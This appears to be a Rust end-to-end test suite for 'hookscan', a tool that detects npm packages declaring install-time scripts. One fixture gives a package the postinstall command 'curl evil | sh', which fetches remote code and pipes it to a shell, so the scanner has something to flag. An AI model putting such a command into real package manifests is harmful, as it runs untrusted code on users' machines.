//! End-to-end tests of the hookscan binary against temporary project trees.

use assert_cmd::Command;
use predicates::prelude::*;
use std::fs;
use std::path::Path;
use tempfile::TempDir;

fn hookscan() -> Command {
    Command::cargo_bin("hookscan").unwrap()
}

fn write_manifest(dir: &Path, contents: &str) {
    fs::create_dir_all(dir).unwrap();
    fs::write(dir.join("package.json"), contents).unwrap();
}

#[test]
fn no_cache_directory_exits_nonzero() {
    let project = TempDir::new().unwrap();

    hookscan()
        .current_dir(project.path())
        .assert()
        .failure()
        .stderr(predicate::str::contains(
            "No .yarn/cache or node_modules directory found",
        ))
        .stdout(predicate::str::is_empty());
}

#[test]
fn packages_with_install_scripts_are_printed() {
    let project = TempDir::new().unwrap();
    let modules = project.path().join("node_modules");

    write_manifest(
        &modules.join("evil"),
        r#"{"name":"evil-pkg","scripts":{"postinstall":"curl evil | sh"}}"#,
    );
    write_manifest(&modules.join("lodash"), r#"{"name":"lodash"}"#);

    hookscan()
        .current_dir(project.path())
        .assert()
        .success()
        .stdout("evil-pkg\n")
        .stderr(predicate::str::contains("Scanning node_modules..."));
}

#[test]
fn nameless_package_falls_back_to_relative_path() {
    let project = TempDir::new().unwrap();
    let modules = project.path().join("node_modules");

    write_manifest(
        &modules.join("foo"),
        r#"{"scripts":{"install":"node-gyp rebuild"}}"#,
    );

    hookscan()
        .current_dir(project.path())
        .assert()
        .success()
        .stdout("foo\n");
}

#[test]
fn nested_cache_package_is_reported() {
    let project = TempDir::new().unwrap();
    let modules = project.path().join("node_modules");

    write_manifest(&modules.join("a"), r#"{"name":"a"}"#);
    write_manifest(
        &modules.join("a/node_modules/b"),
        r#"{"name":"b","scripts":{"preinstall":"./hook.sh"}}"#,
    );

    hookscan()
        .current_dir(project.path())
        .assert()
        .success()
        .stdout("b\n");
}

#[test]
fn clean_tree_prints_nothing_on_stdout() {
    let project = TempDir::new().unwrap();
    let modules = project.path().join("node_modules");

    write_manifest(&modules.join("left-pad"), r#"{"name":"left-pad"}"#);

    hookscan()
        .current_dir(project.path())
        .assert()
        .success()
        .stdout(predicate::str::is_empty());
}

#[test]
fn json_mode_emits_a_structured_report() {
    let project = TempDir::new().unwrap();
    let modules = project.path().join("node_modules");

    write_manifest(
        &modules.join("native"),
        r#"{"name":"native","scripts":{"install":"make"}}"#,
    );

    let output = hookscan()
        .current_dir(project.path())
        .arg("--json")
        .assert()
        .success()
        .get_output()
        .clone();

    let report: serde_json::Value = serde_json::from_slice(&output.stdout).unwrap();
    assert_eq!(report["mode"], "node_modules");
    assert_eq!(report["scanned"], 1);
    assert_eq!(report["findings"][0]["package"], "native");
    assert_eq!(report["findings"][0]["hooks"][0], "install");
}

#[test]
fn explicit_root_argument_is_honored() {
    let project = TempDir::new().unwrap();
    let modules = project.path().join("node_modules");

    write_manifest(
        &modules.join("hooked"),
        r#"{"name":"hooked","scripts":{"postinstall":"true"}}"#,
    );

    hookscan()
        .arg(project.path())
        .assert()
        .success()
        .stdout("hooked\n");
}

#[test]
fn empty_yarn_cache_takes_priority_over_node_modules() {
    let project = TempDir::new().unwrap();
    fs::create_dir_all(project.path().join(".yarn/cache")).unwrap();
    let modules = project.path().join("node_modules");
    write_manifest(
        &modules.join("evil"),
        r#"{"name":"evil","scripts":{"postinstall":"true"}}"#,
    );

    // The archive cache wins even when empty, so node_modules is ignored.
    hookscan()
        .current_dir(project.path())
        .assert()
        .success()
        .stdout(predicate::str::is_empty())
        .stderr(predicate::str::contains("Scanning Yarn PnP cache..."));
}
